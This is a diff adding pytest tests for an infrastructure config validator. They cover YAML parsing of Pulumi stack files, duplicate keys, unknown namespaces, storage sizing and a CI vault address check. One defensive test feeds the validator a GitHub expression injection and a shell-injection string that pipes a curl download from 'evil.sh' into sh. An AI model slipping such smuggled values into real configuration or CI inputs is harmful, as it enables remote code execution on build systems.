@@ -193,3 +193,44 @@ def test_a_trailing_newline_is_refused(key: str, value: str) -> None:
 def test_runbook_url_accepts_no_template_or_shell_text(value: str) -> None:
     (problem,) = problems_for(runbookBaseUrl=value)
     assert "hardening:runbookBaseUrl" in problem and "template braces" in problem
+
+
+def test_stack_files_are_read_like_the_pulumi_cli_reads_them(tmp_path: Path) -> None:
+    """YAML 1.2 core scalars, as Go's yaml.v3 in the Pulumi CLI: `no` is the string "no", not false."""
+    (tmp_path / "Pulumi.yaml").write_text((ROOT / "Pulumi.yaml").read_text())
+    (tmp_path / "Pulumi.x.yaml").write_text("config:\n  hardening:team: no\n  hardening:githubManage: true\n")
+    _, config, _ = load_stack_config("x", tmp_path)
+    assert config["hardening:team"] == "no" and config["hardening:githubManage"] == "true"
+
+
+def test_a_key_given_twice_in_a_stack_file_is_refused(tmp_path: Path) -> None:
+    from tools.mockrun import StackFileError
+
+    (tmp_path / "Pulumi.yaml").write_text((ROOT / "Pulumi.yaml").read_text())
+    (tmp_path / "Pulumi.x.yaml").write_text("config:\n  hardening:team: a\n  hardening:team: b\n")
+    with pytest.raises(StackFileError, match="key 'hardening:team' is given twice"):
+        load_stack_config("x", tmp_path)
+
+
+def test_keys_in_an_unknown_config_namespace_are_reported() -> None:
+    with pytest.raises(ConfigError, match=r"harden:appReplicas: unknown config namespace 'harden'"):
+        load_settings(stack_values("dev"), stack="dev", all_keys=["harden:appReplicas", "kubernetes:context"])
+
+
+def test_retention_size_must_fit_its_volume() -> None:
+    (problem,) = problems_for(prometheusRetentionSize="12GB", prometheusStorage="10Gi")
+    assert "prometheusRetentionSize: '12GB' does not fit prometheusStorage '10Gi'" in problem
+
+
+@pytest.mark.parametrize(
+    "value", ["https://${{github.event.head_commit.message}}", 'https://a";curl${IFS}evil.sh|sh;"', "https://v/p"]
+)
+def test_ci_vault_address_admits_no_expression_or_shell_text(value: str) -> None:
+    (problem,) = problems_for(ciVaultAddress=value)
+    assert problem.startswith("hardening:ciVaultAddress:") and "without path, query, quotes" in problem
+
+
+def test_the_render_reports_an_unknown_namespace(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    out = tmp_path / "dist"
+    assert render("dev", out, {"harden:appReplicas": "5"}, stream=io.StringIO()) == 2
+    assert "harden:appReplicas: unknown config namespace" in capsys.readouterr().err and not out.exists()
